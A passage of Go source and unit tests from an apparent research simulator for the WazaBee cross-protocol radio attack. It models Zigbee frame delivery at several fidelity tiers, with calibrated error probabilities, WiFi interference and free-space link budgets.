// determinism contract requires. Out-of-band transmissions are never
// delivered, mirroring Deliver's passband gate.
func (m *Medium) DeliverVirtual(psduLen int, txFreqMHz, rxFreqMHz float64, link Link, seed uint64) VirtualOutcome {
	reg := obs.Or(m.Obs)
	sep := txFreqMHz - rxFreqMHz
	if sep < 0 {
		sep = -sep
	}
	if sep >= 2 {
		reg.Counter("wazabee_medium_bursts_total", "path", "virtual_out_of_band").Inc()
		return VirtualOutcome{}
	}
	adjacent := sep >= 1
	prob := m.virtualSuccessProb(link.SNRdB, adjacent, psduLen)
	u := float64(splitmix64radio(seed)>>11) / (1 << 53)
	out := VirtualOutcome{InBand: true, Delivered: u < prob, SuccessProb: prob}
	if out.Delivered {
		reg.Counter("wazabee_medium_bursts_total", "path", "virtual_in_band").Inc()
	} else {
		reg.Counter("wazabee_medium_virtual_erased_total").Inc()
	}
	return out
}

// virtualSuccessProb maps a link SNR to the probability that a frame of
// psduLen octets decodes. The model: per-chip error probability
// p = Q(sqrt(2·SNR)) for the MSK-equivalent chip waveform (adjacent-
// channel bursts arrive 20 dB down, matching Deliver's 0.1 amplitude
// scale), chip errors independent, and a 32-chip symbol decodes while at
// most 6 chips are wrong — half the minimum pairwise Hamming distance of
// the 802.15.4 PN set (Table I's codewords sit 12..20 chips apart). The
// frame decodes when all 2·(psduLen+2) payload-and-header symbols do.
// It is a calibrated stand-in, not a DSP replay: the IQ path remains the
// ground truth (DESIGN.md §12).
func (m *Medium) virtualSuccessProb(snrDB float64, adjacent bool, psduLen int) float64 {
	m.perCacheState.mu.Lock()
	defer m.perCacheState.mu.Unlock()
	c := &m.perCacheState
	if c.valid && c.snrDB == snrDB && c.adj == adjacent && c.psduLen == psduLen {
		return c.prob
	}
	eff := snrDB
	if adjacent {
		eff -= 20
	}
	snr := math.Pow(10, eff/10)
	p := 0.5 * math.Erfc(math.Sqrt(snr))
	// P[symbol fails] = P[Binomial(32, p) > 6].
	symOK := binomialCDF(32, 6, p)
	symbols := 2 * (psduLen + 2) // PHR + PSDU at two symbols per octet
	prob := math.Pow(symOK, float64(symbols))
	c.snrDB, c.adj, c.psduLen, c.valid, c.prob = snrDB, adjacent, psduLen, true, prob
	return prob
}

// binomialCDF returns P[Binomial(n, p) <= k] by direct summation; n is
// tiny (32) so precision and cost are not a concern.
func binomialCDF(n, k int, p float64) float64 {
	if p <= 0 {
		return 1
	}
	if p >= 1 {
		return 0
	}
	q := 1 - p
	// term for i=0: q^n, then multiply up the recurrence.
	term := math.Pow(q, float64(n))
	sum := term
	for i := 1; i <= k; i++ {
		term *= float64(n-i+1) / float64(i) * p / q
		sum += term
	}
	if sum > 1 {
		sum = 1
	}
	return sum
}

// splitmix64radio is the SplitMix64 finaliser (same constants as the
// Monte-Carlo runner's seed discipline), used to turn a structured
// delivery coordinate into an independent-looking uniform draw.
func splitmix64radio(x uint64) uint64 {
	x += 0x9e3779b97f4a7c15
	x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9
	x = (x ^ (x >> 27)) * 0x94d049bb133111eb
	return x ^ (x >> 31)
}
