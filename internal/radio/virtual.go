package radio

// VirtualOutcome is the frame-level result of a virtual-time delivery:
// whether the burst reached the receiver's passband at all, and whether
// the frame survived the link's noise. It is the discrete-event
// simulator's stand-in for the waveform Deliver returns — the same link
// physics collapsed to one deterministic per-frame decision, so a
// thousand-node mesh never pays for IQ synthesis.
type VirtualOutcome struct {
	// InBand reports that the transmission landed within one channel
	// width of the receiver's tuning (the condition under which Deliver
	// would have mixed the burst into the capture).
	InBand bool
	// Delivered reports that the frame decoded at the receiver: in band
	// and not erased by noise.
	Delivered bool
	// SuccessProb is the per-frame decode probability the erasure draw
	// was made against, exposed for calibration tests.
	SuccessProb float64
}

// DeliverVirtual propagates one frame at the frame fidelity tier: no
// waveform is synthesised; the calibrated per-frame decode probability
// of the native O-QPSK profile (fitted offline from the IQ tier by
// cmd/calibrate — see Channel and CalTable) is looked up and the outcome
// drawn deterministically from seed. The decision depends only on
// (link, frequencies, psduLen, seed) — never on the medium's shared
// random stream — so virtual deliveries are bit-identical at any event
// order, which is what the discrete-event simulator's determinism
// contract requires. Out-of-band transmissions are never delivered,
// mirroring Deliver's passband gate.
//
// DeliverVirtual is a convenience wrapper over
// Medium.Channel(FidelityFrame, ...) with the ProfileOQPSK calibration
// profile; callers that need a different profile or the symbol tier use
// Channel directly.
func (m *Medium) DeliverVirtual(psduLen int, txFreqMHz, rxFreqMHz float64, link Link, seed uint64) VirtualOutcome {
	out, err := m.virtualChannel().Deliver(FrameSpec{
		PSDULen:   psduLen,
		TxFreqMHz: txFreqMHz,
		RxFreqMHz: rxFreqMHz,
		Link:      link,
		Seed:      seed,
	})
	if err != nil {
		// The frame tier has no runtime failure modes beyond table
		// bootstrap, which virtualChannel already vetted.
		panic("radio: virtual delivery failed: " + err.Error())
	}
	return VirtualOutcome{InBand: out.InBand, Delivered: out.Delivered(), SuccessProb: out.SuccessProb}
}

// virtualChannel lazily builds the frame-tier channel DeliverVirtual
// runs on. The embedded calibration table is checked in and validated
// by tests, so a bootstrap failure here is a build defect, not a
// runtime condition — panic with the cause rather than grow an error
// return on every virtual delivery.
func (m *Medium) virtualChannel() Channel {
	m.virtualOnce.Do(func() {
		m.virtualCh, m.virtualErr = m.Channel(FidelityFrame, ChannelOptions{Profile: ProfileOQPSK})
	})
	if m.virtualErr != nil {
		panic("radio: embedded calibration table unusable: " + m.virtualErr.Error())
	}
	return m.virtualCh
}
