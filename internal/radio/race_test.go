package radio

import (
	"sync"
	"testing"
)

// TestDeliverVirtualConcurrentSeeded exercises the virtual delivery
// path from many goroutines on one shared Medium. Virtual deliveries
// draw exclusively from their per-call seed — never from the medium's
// shared Rand, whose single-goroutine contract is documented on
// Medium.Rand — so concurrent callers with private seeds must be safe
// under the race detector and must produce exactly the outcomes a
// sequential caller sees.
func TestDeliverVirtualConcurrentSeeded(t *testing.T) {
	m, err := NewMedium(16e6, 1)
	if err != nil {
		t.Fatal(err)
	}
	link := Link{SNRdB: 2} // mid-curve: both outcomes occur

	const workers = 8
	const perWorker = 400
	want := make([][]bool, workers)
	for w := range want {
		want[w] = make([]bool, perWorker)
		for i := range want[w] {
			seed := uint64(w*perWorker + i)
			want[w][i] = m.DeliverVirtual(40, 2420, 2420, link, seed).Delivered
		}
	}

	got := make([][]bool, workers)
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		w := w
		got[w] = make([]bool, perWorker)
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < perWorker; i++ {
				seed := uint64(w*perWorker + i)
				got[w][i] = m.DeliverVirtual(40, 2420, 2420, link, seed).Delivered
			}
		}()
	}
	wg.Wait()

	for w := range want {
		for i := range want[w] {
			if got[w][i] != want[w][i] {
				t.Fatalf("worker %d draw %d: concurrent outcome %v != sequential %v",
					w, i, got[w][i], want[w][i])
			}
		}
	}
}
