package radio

import (
	"errors"
	"math"
	"testing"

	"wazabee/internal/bitstream"
	"wazabee/internal/ieee802154"
	"wazabee/internal/obs"
)

func TestParseFidelityRoundTrip(t *testing.T) {
	for _, f := range []Fidelity{FidelityIQ, FidelitySymbol, FidelityFrame} {
		got, err := ParseFidelity(f.String())
		if err != nil || got != f {
			t.Errorf("ParseFidelity(%q) = %v, %v", f.String(), got, err)
		}
	}
	if _, err := ParseFidelity("waveform"); err == nil {
		t.Error("unknown fidelity accepted")
	}
}

func TestChannelOptionValidation(t *testing.T) {
	m, err := NewMedium(16e6, 1)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := m.Channel(FidelityIQ, ChannelOptions{}); err == nil {
		t.Error("IQ channel without endpoints accepted")
	}
	if _, err := m.Channel(Fidelity(42), ChannelOptions{}); err == nil {
		t.Error("unknown fidelity accepted")
	}
	if _, err := m.Channel(FidelitySymbol, ChannelOptions{Profile: "no/such-profile"}); err == nil {
		t.Error("missing calibration profile accepted")
	}
	for _, f := range []Fidelity{FidelitySymbol, FidelityFrame} {
		ch, err := m.Channel(f, ChannelOptions{})
		if err != nil {
			t.Fatalf("%v channel on default profile: %v", f, err)
		}
		if ch.Fidelity() != f {
			t.Errorf("channel fidelity %v, want %v", ch.Fidelity(), f)
		}
	}
}

// testPSDU builds a minimal FCS-valid frame body for channel tests.
func testPSDU(t *testing.T, n int) []byte {
	t.Helper()
	if n < 2 {
		t.Fatalf("psdu length %d too short for an FCS", n)
	}
	psdu := make([]byte, n)
	for i := range psdu[:n-2] {
		psdu[i] = byte(i * 7)
	}
	fcs := bitstream.FCS16(psdu[:n-2])
	psdu[n-2], psdu[n-1] = byte(fcs), byte(fcs>>8)
	return psdu
}

func TestSymbolChannelDeterministicInSeed(t *testing.T) {
	m1, _ := NewMedium(16e6, 1)
	m2, _ := NewMedium(16e6, 99) // medium seed must not matter
	m1.Obs, m2.Obs = obs.NewRegistry(), obs.NewRegistry()
	ch1, err := m1.Channel(FidelitySymbol, ChannelOptions{})
	if err != nil {
		t.Fatal(err)
	}
	ch2, err := m2.Channel(FidelitySymbol, ChannelOptions{})
	if err != nil {
		t.Fatal(err)
	}
	psdu := testPSDU(t, 40)
	link := Link{SNRdB: 2} // deep in the error regime
	for seed := uint64(0); seed < 256; seed++ {
		spec := FrameSpec{PSDU: psdu, TxFreqMHz: 2420, RxFreqMHz: 2420, Link: link, Seed: seed}
		a, err1 := ch1.Deliver(spec)
		b, err2 := ch2.Deliver(spec)
		if err1 != nil || err2 != nil {
			t.Fatalf("seed %d: deliver errors %v, %v", seed, err1, err2)
		}
		if a.Valid != b.Valid || a.ChipErrors != b.ChipErrors ||
			!errors.Is(a.DecodeErr, b.DecodeErr) || string(a.PSDU) != string(b.PSDU) {
			t.Fatalf("seed %d: outcomes diverge: %+v vs %+v", seed, a, b)
		}
	}
}

// TestSymbolChannelOutcomeClasses checks that mid-waterfall delivery
// produces all three Table III outcome classes with sound semantics:
// sync failures carry ErrNoSync and no PSDU, corrupted frames carry a
// same-length PSDU that differs from the transmission, and valid frames
// return it byte-identical.
func TestSymbolChannelOutcomeClasses(t *testing.T) {
	m, _ := NewMedium(16e6, 1)
	m.Obs = obs.NewRegistry()
	ch, err := m.Channel(FidelitySymbol, ChannelOptions{})
	if err != nil {
		t.Fatal(err)
	}
	psdu := testPSDU(t, 40)
	link := Link{SNRdB: 2}
	var valid, corrupted, lost int
	for seed := uint64(0); seed < 4000; seed++ {
		out, err := ch.Deliver(FrameSpec{PSDU: psdu, TxFreqMHz: 2420, RxFreqMHz: 2420, Link: link, Seed: seed})
		if err != nil {
			t.Fatal(err)
		}
		switch {
		case !out.InBand:
			t.Fatal("co-channel delivery out of band")
		case out.DecodeErr != nil:
			if !errors.Is(out.DecodeErr, ieee802154.ErrNoSync) {
				t.Fatalf("unexpected decode error %v", out.DecodeErr)
			}
			if out.PSDU != nil {
				t.Fatal("sync failure still produced a PSDU")
			}
			lost++
		case out.Valid:
			if string(out.PSDU) != string(psdu) {
				t.Fatal("valid outcome with mismatched PSDU")
			}
			valid++
		default:
			if len(out.PSDU) != len(psdu) {
				t.Fatalf("corrupted PSDU length %d, want %d", len(out.PSDU), len(psdu))
			}
			if string(out.PSDU) == string(psdu) {
				t.Fatal("corrupted outcome with byte-identical PSDU")
			}
			if out.ChipErrors <= 5 {
				t.Fatalf("corruption with only %d chip errors (min codeword distance is 12)", out.ChipErrors)
			}
			corrupted++
		}
	}
	if valid == 0 || corrupted == 0 || lost == 0 {
		t.Errorf("classes not all populated at 2 dB: valid=%d corrupted=%d lost=%d", valid, corrupted, lost)
	}
}

// TestSymbolAndFrameTiersAgree cross-checks the two calibrated tiers
// against each other: the frame tier's closed-form success probability
// must match the symbol tier's empirical delivery rate, since both are
// derived from the same calibration cells and despreader model.
func TestSymbolAndFrameTiersAgree(t *testing.T) {
	m, _ := NewMedium(16e6, 1)
	m.Obs = obs.NewRegistry()
	sym, err := m.Channel(FidelitySymbol, ChannelOptions{})
	if err != nil {
		t.Fatal(err)
	}
	frm, err := m.Channel(FidelityFrame, ChannelOptions{})
	if err != nil {
		t.Fatal(err)
	}
	psdu := testPSDU(t, 40)
	for _, snr := range []float64{0, 2, 4} {
		link := Link{SNRdB: snr}
		const trials = 6000
		delivered := 0
		for seed := uint64(0); seed < trials; seed++ {
			out, err := sym.Deliver(FrameSpec{PSDU: psdu, TxFreqMHz: 2420, RxFreqMHz: 2420, Link: link, Seed: seed})
			if err != nil {
				t.Fatal(err)
			}
			if out.Delivered() {
				delivered++
			}
		}
		fout, err := frm.Deliver(FrameSpec{PSDU: psdu, TxFreqMHz: 2420, RxFreqMHz: 2420, Link: link, Seed: 1})
		if err != nil {
			t.Fatal(err)
		}
		prob := fout.SuccessProb
		got := float64(delivered) / trials
		// 5-sigma binomial noise plus a small margin for the frame
		// tier's Monte-Carlo symbol-decode table.
		tol := 5*math.Sqrt(prob*(1-prob)/trials) + 0.015
		if math.Abs(got-prob) > tol {
			t.Errorf("snr %g: symbol-tier delivery rate %.4f vs frame-tier prob %.4f (tol %.4f)",
				snr, got, prob, tol)
		}
	}
}

func TestSymbolChannelPassbandGate(t *testing.T) {
	m, _ := NewMedium(16e6, 1)
	m.Obs = obs.NewRegistry()
	ch, err := m.Channel(FidelitySymbol, ChannelOptions{})
	if err != nil {
		t.Fatal(err)
	}
	out, err := ch.Deliver(FrameSpec{PSDULen: 20, TxFreqMHz: 2420, RxFreqMHz: 2470, Link: Link{SNRdB: 30}, Seed: 1})
	if err != nil {
		t.Fatal(err)
	}
	if out.InBand || out.Received() || out.Delivered() {
		t.Errorf("out-of-band delivery reported %+v", out)
	}
	adj, err := ch.Deliver(FrameSpec{PSDULen: 20, TxFreqMHz: 2420, RxFreqMHz: 2421, Link: Link{SNRdB: 40}, Seed: 1})
	if err != nil {
		t.Fatal(err)
	}
	if !adj.InBand {
		t.Error("adjacent channel should still be in band")
	}
}

func TestWiFiWeight(t *testing.T) {
	m, _ := NewMedium(16e6, 1)
	if w := m.wifiWeight(2440, 0); w != 0 {
		t.Errorf("clean medium weight %g, want 0", w)
	}
	itf, err := NewWiFiInterferer(6, 0.005, 6.0, 800) // 2437 MHz, reference duty/power
	if err != nil {
		t.Fatal(err)
	}
	m.AddWiFi(itf)
	want := itf.Overlap(2440)
	if got := m.wifiWeight(2440, 0); math.Abs(got-want) > 1e-12 {
		t.Errorf("reference-shaped interferer weight %g, want overlap %g", got, want)
	}
	// 10 dB of receiver rejection scales the weight by 0.1.
	if got := m.wifiWeight(2440, 10); math.Abs(got-want/10) > 1e-12 {
		t.Errorf("rejected weight %g, want %g", got, want/10)
	}
	// A second network doubles up additively.
	m.AddWiFi(itf)
	if got := m.wifiWeight(2440, 0); math.Abs(got-2*want) > 1e-12 {
		t.Errorf("two networks weight %g, want %g", got, 2*want)
	}
}

func TestCalProfileLookupInterpolates(t *testing.T) {
	mk := func(sf float64) CalCell {
		c := CalCell{SyncFail: sf}
		c.Dist[0] = 1 - sf/2
		c.Dist[8] = sf / 2
		return c
	}
	p := &CalProfile{
		Name:  "test",
		SNRdB: []float64{0, 10},
		CFOHz: []float64{0},
		WiFi:  []float64{0, 1},
		Cells: []CalCell{mk(0.8), mk(1.0), mk(0.2), mk(0.6)},
	}
	if got := p.Lookup(0, 0, 0).SyncFail; got != 0.8 {
		t.Errorf("corner lookup %g, want 0.8", got)
	}
	if got := p.Lookup(-50, 0, 0).SyncFail; got != 0.8 {
		t.Errorf("clamped-low lookup %g, want 0.8", got)
	}
	if got := p.Lookup(50, 0, 2).SyncFail; got != 0.6 {
		t.Errorf("clamped-high lookup %g, want 0.6", got)
	}
	if got := p.Lookup(5, 0, 0).SyncFail; math.Abs(got-0.5) > 1e-12 {
		t.Errorf("SNR midpoint %g, want 0.5", got)
	}
	mid := p.Lookup(5, 0, 0.5)
	if math.Abs(mid.SyncFail-0.65) > 1e-12 {
		t.Errorf("bilinear midpoint %g, want 0.65", mid.SyncFail)
	}
	sum := 0.0
	for _, d := range mid.Dist {
		sum += d
	}
	if math.Abs(sum-1) > 1e-12 {
		t.Errorf("interpolated distribution sums to %g", sum)
	}
	// Negative CFO mirrors onto the positive axis.
	if a, b := p.Lookup(5, -3, 0).SyncFail, p.Lookup(5, 3, 0).SyncFail; a != b {
		t.Errorf("CFO sign symmetry broken: %g vs %g", a, b)
	}
}

func TestDefaultCalTableShipsAllProfiles(t *testing.T) {
	table, err := DefaultCalTable()
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{
		ProfileOQPSK,
		CalProfileName("nRF52832", "reception"),
		CalProfileName("nRF52832", "transmission"),
		CalProfileName("CC1352-R1", "reception"),
		CalProfileName("CC1352-R1", "transmission"),
	} {
		if _, err := table.Profile(name); err != nil {
			t.Errorf("embedded table: %v", err)
		}
	}
}
