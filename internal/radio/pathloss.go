package radio

import (
	"fmt"
	"math"
)

// Free-space link-budget helpers: the paper specifies its geometry ("a
// distance of 3 meters") rather than an SNR; these convert one into the
// other so experiment configurations can be written in physical terms.

// FreeSpacePathLossDB returns the free-space path loss in dB between
// isotropic antennas at distanceM metres and freqMHz:
// 20·log10(d) + 20·log10(f) − 27.55 (d in m, f in MHz).
func FreeSpacePathLossDB(distanceM, freqMHz float64) (float64, error) {
	if distanceM <= 0 {
		return 0, fmt.Errorf("radio: non-positive distance %g m", distanceM)
	}
	if freqMHz <= 0 {
		return 0, fmt.Errorf("radio: non-positive frequency %g MHz", freqMHz)
	}
	return 20*math.Log10(distanceM) + 20*math.Log10(freqMHz) - 27.55, nil
}

// LinkBudget describes one radio hop in physical terms.
type LinkBudget struct {
	// TxPowerDBm is the transmit power (0 dBm is typical for BLE and
	// 802.15.4 nodes).
	TxPowerDBm float64
	// DistanceM separates transmitter and receiver.
	DistanceM float64
	// FreqMHz is the carrier frequency.
	FreqMHz float64
	// NoiseFloorDBm is the receiver's in-channel noise floor; −111 dBm
	// is thermal noise over 2 MHz plus a few dB of implementation
	// margin.
	NoiseFloorDBm float64
}

// DefaultLinkBudget models the paper's bench: 0 dBm transmitters 3 m
// apart in the 2.4 GHz band.
func DefaultLinkBudget(freqMHz float64) LinkBudget {
	return LinkBudget{
		TxPowerDBm:    0,
		DistanceM:     3,
		FreqMHz:       freqMHz,
		NoiseFloorDBm: -111,
	}
}

// SNRdB computes the link signal-to-noise ratio.
func (b LinkBudget) SNRdB() (float64, error) {
	loss, err := FreeSpacePathLossDB(b.DistanceM, b.FreqMHz)
	if err != nil {
		return 0, err
	}
	return b.TxPowerDBm - loss - b.NoiseFloorDBm, nil
}

// MaxRangeM returns the farthest distance at which the link still
// reaches the given SNR — how far the WazaBee attacker can sit from its
// victim.
func (b LinkBudget) MaxRangeM(minSNRdB float64) (float64, error) {
	if b.FreqMHz <= 0 {
		return 0, fmt.Errorf("radio: non-positive frequency %g MHz", b.FreqMHz)
	}
	// Solve TxPower − FSPL(d) − NoiseFloor = minSNR for d.
	lossBudget := b.TxPowerDBm - b.NoiseFloorDBm - minSNRdB
	exp := (lossBudget + 27.55 - 20*math.Log10(b.FreqMHz)) / 20
	return math.Pow(10, exp), nil
}
