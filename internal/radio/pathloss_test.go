package radio

import (
	"math"
	"testing"
)

func TestFreeSpacePathLoss(t *testing.T) {
	// Classic sanity value: 2.4 GHz at 1 m ≈ 40 dB.
	loss, err := FreeSpacePathLossDB(1, 2400)
	if err != nil {
		t.Fatal(err)
	}
	if math.Abs(loss-40.05) > 0.2 {
		t.Errorf("FSPL(1 m, 2400 MHz) = %.2f dB, want ≈ 40", loss)
	}
	// Doubling distance adds 6 dB.
	loss2, err := FreeSpacePathLossDB(2, 2400)
	if err != nil {
		t.Fatal(err)
	}
	if math.Abs(loss2-loss-6.02) > 0.1 {
		t.Errorf("doubling distance added %.2f dB, want ≈ 6", loss2-loss)
	}
	if _, err := FreeSpacePathLossDB(0, 2400); err == nil {
		t.Error("expected error for zero distance")
	}
	if _, err := FreeSpacePathLossDB(1, 0); err == nil {
		t.Error("expected error for zero frequency")
	}
}

func TestDefaultLinkBudgetIsComfortable(t *testing.T) {
	// The paper's 3 m bench leaves an enormous SNR margin — which is
	// why Table III is near-perfect away from WiFi.
	b := DefaultLinkBudget(2420)
	snr, err := b.SNRdB()
	if err != nil {
		t.Fatal(err)
	}
	if snr < 50 {
		t.Errorf("3 m link SNR = %.1f dB, expected a very comfortable margin", snr)
	}
}

func TestMaxRangeRoundTrip(t *testing.T) {
	b := DefaultLinkBudget(2420)
	// The attack keeps working down to the ~6 dB sensitivity knee; the
	// corresponding range is the attacker's operating radius.
	r, err := b.MaxRangeM(6)
	if err != nil {
		t.Fatal(err)
	}
	if r < 100 {
		t.Errorf("range at 6 dB = %.0f m, expected beyond 100 m in free space", r)
	}
	// Consistency: the SNR at MaxRange equals the requested SNR.
	b.DistanceM = r
	snr, err := b.SNRdB()
	if err != nil {
		t.Fatal(err)
	}
	if math.Abs(snr-6) > 0.01 {
		t.Errorf("SNR at computed range = %.3f dB, want 6", snr)
	}
	b.FreqMHz = 0
	if _, err := b.MaxRangeM(6); err == nil {
		t.Error("expected error for zero frequency")
	}
	if _, err := b.SNRdB(); err == nil {
		t.Error("expected error from SNRdB with zero frequency")
	}
}
