package radio

import (
	"bytes"
	"fmt"
	"math"
	"sync"

	"wazabee/internal/bitstream"
	"wazabee/internal/dsp"
	"wazabee/internal/ieee802154"
	"wazabee/internal/obs"
)

// Fidelity selects how much physics a Channel simulates per frame.
//
// The tiers trade accuracy for throughput:
//
//   - FidelityIQ synthesises the complex-baseband waveform, runs it
//     through the medium (noise, CFO, WiFi bursts) and demodulates it
//     with the real DSP chain. Ground truth; ~ms per frame.
//   - FidelitySymbol skips IQ entirely: a calibrated table maps the
//     operating point (SNR, |CFO|, WiFi overlap) to per-symbol chip-error
//     distributions, chip errors are drawn per symbol and pushed through
//     the real minimum-distance despreader decision logic. Per-symbol
//     outcomes, corrupted-frame bytes and quality-gate statistics agree
//     with the IQ tier within calibration error at a small fraction of
//     the cost.
//   - FidelityFrame collapses the symbol tier to a closed-form per-frame
//     success probability and one uniform draw — the mesh simulator's
//     erasure model; ~ns per frame.
//
// The zero value means "unset": each subsystem picks its own default
// (experiments default to IQ, the mesh simulator to frame).
type Fidelity int

const (
	// FidelityIQ is full waveform synthesis and demodulation.
	FidelityIQ Fidelity = iota + 1
	// FidelitySymbol draws calibrated per-symbol chip errors through the
	// real despreader.
	FidelitySymbol
	// FidelityFrame draws one calibrated per-frame erasure decision.
	FidelityFrame
)

// String returns the flag spelling of the tier.
func (f Fidelity) String() string {
	switch f {
	case FidelityIQ:
		return "iq"
	case FidelitySymbol:
		return "symbol"
	case FidelityFrame:
		return "frame"
	default:
		return fmt.Sprintf("fidelity(%d)", int(f))
	}
}

// ParseFidelity parses a -fidelity flag value.
func ParseFidelity(s string) (Fidelity, error) {
	switch s {
	case "iq":
		return FidelityIQ, nil
	case "symbol":
		return FidelitySymbol, nil
	case "frame":
		return FidelityFrame, nil
	default:
		return 0, fmt.Errorf("radio: unknown fidelity %q (want iq, symbol or frame)", s)
	}
}

// FrameSpec describes one frame delivery, independent of fidelity tier.
type FrameSpec struct {
	// PSDU is the transmitted MAC frame (FCS included). The symbol tier
	// despreads it symbol by symbol; the frame tier echoes it back on
	// success. May be nil for erasure-only callers, in which case PSDULen
	// supplies the length (the symbol tier then models an all-zero
	// payload, which leaves error statistics unchanged — the despreading
	// distance distribution does not depend on which codeword was sent).
	PSDU []byte
	// PSDULen is the frame length in octets when PSDU is nil.
	PSDULen int
	// TxFreqMHz and RxFreqMHz are the carrier frequencies of the two
	// ends; the same passband gate as Medium.Deliver applies.
	TxFreqMHz, RxFreqMHz float64
	// Link is the propagation between the two radios.
	Link Link
	// Seed drives every random decision of the symbol and frame tiers.
	// Those tiers never touch the medium's shared Rand, so deliveries
	// with private seeds are safe from concurrent goroutines and
	// bit-identical at any event order. The IQ tier ignores Seed and
	// draws from the medium's stream (single-goroutine contract on
	// Medium.Rand).
	Seed uint64
}

func (s *FrameSpec) psduLen() int {
	if s.PSDU != nil {
		return len(s.PSDU)
	}
	return s.PSDULen
}

// FrameOutcome is the tier-independent result of one frame delivery.
type FrameOutcome struct {
	// InBand reports that the transmission landed within one channel
	// width of the receiver's tuning.
	InBand bool
	// PSDU is what the receiver decoded (nil when nothing was received,
	// or when a frame-tier delivery had no PSDU to echo).
	PSDU []byte
	// DecodeErr is the receiver-side error, when the frame produced no
	// PSDU at all: ieee802154.ErrNoSync for sync failures, quality-gate
	// drops and frame-tier erasures; other errors only on the IQ tier.
	DecodeErr error
	// Valid reports that the decoded PSDU carries a good FCS and matches
	// the transmitted frame byte for byte.
	Valid bool
	// SuccessProb is the closed-form decode probability the erasure draw
	// was made against (frame tier only; zero elsewhere).
	SuccessProb float64
	// ChipErrors is the total number of chip errors drawn across the
	// frame's symbols (symbol tier only; zero elsewhere).
	ChipErrors int
}

// Received reports that the receiver produced a PSDU (possibly corrupt).
func (o FrameOutcome) Received() bool {
	return o.InBand && o.DecodeErr == nil
}

// Delivered reports that the frame arrived intact.
func (o FrameOutcome) Delivered() bool {
	return o.Received() && o.Valid
}

// Channel delivers frames at one fidelity tier. Implementations are
// obtained from Medium.Channel and share that medium's interferers and
// observability; the symbol and frame tiers are safe for concurrent use
// (seed-parameterised), the IQ tier inherits Medium.Deliver's
// single-goroutine contract.
type Channel interface {
	// Fidelity identifies the tier this channel simulates at.
	Fidelity() Fidelity
	// Deliver propagates one frame. The error return is for hard
	// failures (modulation errors, invalid specs); receiver-side decode
	// failures land in FrameOutcome.DecodeErr instead.
	Deliver(spec FrameSpec) (FrameOutcome, error)
}

// IQEndpoints supplies the modem pair of an IQ-tier channel: how the
// transmitter turns a PSDU into a waveform and how the receiver turns
// the delivered capture back into a PSDU. Keeping these as closures lets
// one Channel interface cover every modem combination in the tree
// (Zigbee PHY both ways, WazaBee BLE-diverted reception/transmission)
// without the radio package importing the chip or core layers.
type IQEndpoints struct {
	Modulate   func(psdu []byte) (dsp.IQ, error)
	Demodulate func(capture dsp.IQ) ([]byte, error)
}

// ChannelOptions configures Medium.Channel.
type ChannelOptions struct {
	// Profile names the calibration profile backing the symbol and frame
	// tiers (e.g. "nRF52832/reception"); empty means ProfileOQPSK.
	Profile string
	// Cal overrides the calibration table; nil uses the embedded default.
	Cal *CalTable
	// Endpoints supplies the modem pair; required for FidelityIQ,
	// ignored otherwise.
	Endpoints *IQEndpoints
}

// Channel returns a frame-delivery channel over this medium at the given
// fidelity tier.
func (m *Medium) Channel(f Fidelity, opts ChannelOptions) (Channel, error) {
	switch f {
	case FidelityIQ:
		if opts.Endpoints == nil || opts.Endpoints.Modulate == nil || opts.Endpoints.Demodulate == nil {
			return nil, fmt.Errorf("radio: FidelityIQ requires ChannelOptions.Endpoints")
		}
		return &iqChannel{m: m, ep: *opts.Endpoints}, nil
	case FidelitySymbol, FidelityFrame:
		table := opts.Cal
		if table == nil {
			var err error
			table, err = DefaultCalTable()
			if err != nil {
				return nil, err
			}
		}
		name := opts.Profile
		if name == "" {
			name = ProfileOQPSK
		}
		prof, err := table.Profile(name)
		if err != nil {
			return nil, err
		}
		if f == FidelitySymbol {
			return &symbolChannel{m: m, prof: prof}, nil
		}
		return &frameChannel{m: m, prof: prof}, nil
	default:
		return nil, fmt.Errorf("radio: unknown fidelity %v", f)
	}
}

// wifiWeight collapses the medium's interferers into the scalar the
// calibration grid is indexed by: spectral overlap at the receiver's
// tuning, scaled by how much busier/louder each network is than the
// calibration reference and attenuated by the receiver's blocking
// performance. Zero means a clean channel.
func (m *Medium) wifiWeight(rxFreqMHz, rejectionDB float64) float64 {
	const refDuty, refPower = 0.005, 6.0
	w := 0.0
	for _, itf := range m.interferers {
		w += itf.Overlap(rxFreqMHz) * (itf.DutyCycle / refDuty) * (itf.Power / refPower)
	}
	return w * math.Pow(10, -rejectionDB/10)
}

// passband applies Medium.Deliver's channel gate: transmissions two or
// more channel widths away never reach the receiver; one to two widths
// away arrive through the adjacent-channel skirt.
func passband(txFreqMHz, rxFreqMHz float64) (inBand, adjacent bool) {
	sep := txFreqMHz - rxFreqMHz
	if sep < 0 {
		sep = -sep
	}
	return sep < 2, sep >= 1 && sep < 2
}

// seedStream is a SplitMix64 sequence generator: the per-delivery random
// stream of the symbol and frame tiers. Its first float64 equals the
// single finaliser draw the frame tier historically made, and it is
// cheap enough to sit in the per-symbol hot loop.
type seedStream struct{ state uint64 }

func (s *seedStream) next() uint64 {
	s.state += 0x9e3779b97f4a7c15
	z := s.state
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
	z = (z ^ (z >> 27)) * 0x94d049bb133111eb
	return z ^ (z >> 31)
}

func (s *seedStream) float64() float64 {
	return float64(s.next()>>11) / (1 << 53)
}

func (s *seedStream) intn(n int) int {
	// Modulo bias over a 64-bit draw is negligible at n <= 32.
	return int(s.next() % uint64(n))
}

// drawDist samples a despreading distance from a calibrated cell.
func drawDist(rng *seedStream, dist *[17]float64) int {
	u := rng.float64()
	acc := 0.0
	for k, p := range dist {
		acc += p
		if u < acc {
			return k
		}
	}
	return len(dist) - 1
}

// iqChannel is the ground-truth tier: full waveform synthesis through
// Medium.Deliver and real demodulation.
type iqChannel struct {
	m  *Medium
	ep IQEndpoints
}

func (c *iqChannel) Fidelity() Fidelity { return FidelityIQ }

func (c *iqChannel) Deliver(spec FrameSpec) (FrameOutcome, error) {
	if spec.PSDU == nil {
		return FrameOutcome{}, fmt.Errorf("radio: FidelityIQ requires FrameSpec.PSDU (cannot modulate a length)")
	}
	sig, err := c.ep.Modulate(spec.PSDU)
	if err != nil {
		return FrameOutcome{}, fmt.Errorf("radio: modulate: %w", err)
	}
	capture, err := c.m.Deliver(sig, spec.TxFreqMHz, spec.RxFreqMHz, spec.Link)
